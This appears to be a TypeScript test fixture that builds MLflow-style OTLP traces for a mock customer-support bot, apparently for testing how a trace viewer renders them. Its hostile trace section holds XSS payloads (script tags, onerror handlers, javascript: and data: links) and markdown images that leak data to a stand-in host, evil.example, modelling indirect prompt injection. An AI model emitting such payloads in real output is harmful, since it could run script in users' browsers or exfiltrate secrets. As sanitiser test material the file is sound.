// Traces sent the way an instrumented app sends them: OTLP/JSON to POST /v1/traces, with
// MLflow's span attributes (JSON-encoded strings), hex ids as the OTLP JSON exporter writes them.
import crypto from 'node:crypto';

const hex = (n: number) => crypto.randomBytes(n).toString('hex');
const attr = (key: string, v: unknown) => ({ key, value: { stringValue: JSON.stringify(v) } });

interface SpanSpec {
  name: string;
  type: string;
  inputs: unknown;
  outputs: unknown;
  startMs: number;
  durMs: number;
  children?: SpanSpec[];
  error?: string;
}

function spans(traceId: string, spec: SpanSpec, parent: string | undefined, t0: number, out: unknown[]) {
  const id = hex(8);
  const start = BigInt(t0 + spec.startMs) * 1_000_000n;
  const end = BigInt(t0 + spec.startMs + spec.durMs) * 1_000_000n;
  out.push({
    traceId,
    spanId: id,
    ...(parent ? { parentSpanId: parent } : {}),
    name: spec.name,
    kind: 1,
    startTimeUnixNano: start.toString(),
    endTimeUnixNano: end.toString(),
    attributes: [attr('mlflow.spanType', spec.type), attr('mlflow.spanInputs', spec.inputs), attr('mlflow.spanOutputs', spec.outputs)],
    status: spec.error ? { code: 2, message: spec.error } : { code: 1 },
  });
  for (const c of spec.children ?? []) spans(traceId, c, id, t0, out);
}

export function otlpTrace(root: SpanSpec, t0 = Date.now()) {
  const traceId = hex(16);
  const out: unknown[] = [];
  spans(traceId, root, undefined, t0, out);
  return {
    traceId: `tr-${traceId}`,
    body: { resourceSpans: [{ resource: { attributes: [{ key: 'service.name', value: { stringValue: 'support-bot' } }] }, scopeSpans: [{ scope: { name: 'e2e' }, spans: out }] }] },
  };
}

const system = { role: 'system', content: 'You are a helpful customer support agent for Acme.' };

export function supportTrace(question: string, answer: string, t0: number) {
  const messages = [system, { role: 'user', content: question }];
  const docs = [
    { page_content: `Policy excerpt about: **${question}**\n\nOrders ship in 2–4 days.`, metadata: { doc_uri: 'https://docs.acme.test/policies/shipping' }, id: 'doc-1' },
    { page_content: 'Refunds are issued within 14 days of a return.', metadata: { doc_uri: 'https://docs.acme.test/policies/refunds' }, id: 'doc-2' },
  ];
  const completion = { id: 'chatcmpl-1', object: 'chat.completion', model: 'gpt-4o-mini', choices: [{ index: 0, message: { role: 'assistant', content: answer }, finish_reason: 'stop' }] };
  return otlpTrace(
    {
      name: 'support_app',
      type: 'AGENT',
      inputs: { messages },
      outputs: completion,
      startMs: 0,
      durMs: 1240,
      children: [
        { name: 'retrieve_docs', type: 'RETRIEVER', inputs: { query: question }, outputs: docs, startMs: 20, durMs: 180 },
        {
          name: 'lookup_order',
          type: 'TOOL',
          inputs: { order_id: 'A-1001' },
          outputs: { status: 'shipped', eta: '2 days' },
          startMs: 220,
          durMs: 90,
        },
        { name: 'chat.completions', type: 'CHAT_MODEL', inputs: { messages, model: 'gpt-4o-mini' }, outputs: completion, startMs: 330, durMs: 880 },
      ],
    },
    t0,
  );
}

export function toolCallTrace(t0: number) {
  const messages = [
    system,
    { role: 'user', content: 'Where is my order A-1001?' },
    { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'lookup_order', arguments: '{"order_id":"A-1001"}' } }] },
    { role: 'tool', tool_call_id: 'call_1', content: '{"status":"shipped","eta":"2 days"}' },
    { role: 'assistant', content: 'Your order **A-1001** has shipped and should arrive in about 2 days.' },
  ];
  return otlpTrace({ name: 'order_agent', type: 'AGENT', inputs: { messages: messages.slice(0, 2) }, outputs: { messages }, startMs: 0, durMs: 2100 }, t0);
}

/** Content an attacker could plant in a trace (indirect prompt injection). */
export const HOSTILE_MARKDOWN = [
  'Here is your answer. <img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '![tracking pixel](https://evil.example/leak.png?q=secret)',
  '[click me](javascript:window.__pwned=3)',
  '<svg><script>window.__pwned=4</script></svg>',
  '<a href="data:text/html,<script>window.__pwned=5</script>">data link</a>',
  '![inline ok](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)',
].join('\n\n');

export function hostileTrace(t0: number) {
  return otlpTrace(
    {
      name: 'hostile',
      type: 'CHAIN',
      inputs: { messages: [{ role: 'user', content: 'Tell me about <img src=x onerror="window.__pwned=6"> please' }] },
      outputs: { choices: [{ index: 0, message: { role: 'assistant', content: HOSTILE_MARKDOWN } }] },
      startMs: 0,
      durMs: 300,
      children: [
        {
          name: 'retrieve',
          type: 'RETRIEVER',
          inputs: { query: 'x' },
          outputs: [{ page_content: '![exfil](https://evil.example/doc.png) <script>window.__pwned=7</script>', metadata: { doc_uri: 'javascript:alert(1)' } }],
          startMs: 10,
          durMs: 50,
        },
      ],
    },
    t0,
  );
}

export const QUESTIONS: [string, string][] = [
  ['My order is delayed', 'I am sorry about the delay. Your order ships within **2–4 days**; I have escalated it.'],
  ["I can't log into my account", 'Please reset your password from the sign-in page, then try again.'],
  ["What's your refund policy?", 'Refunds are issued within 14 days of a return. See the policy for details.'],
  ['How do I cancel my subscription?', 'Go to *Settings → Billing → Cancel subscription*.'],
  ['The website is down', 'We are aware of an outage and are working on it.'],
];
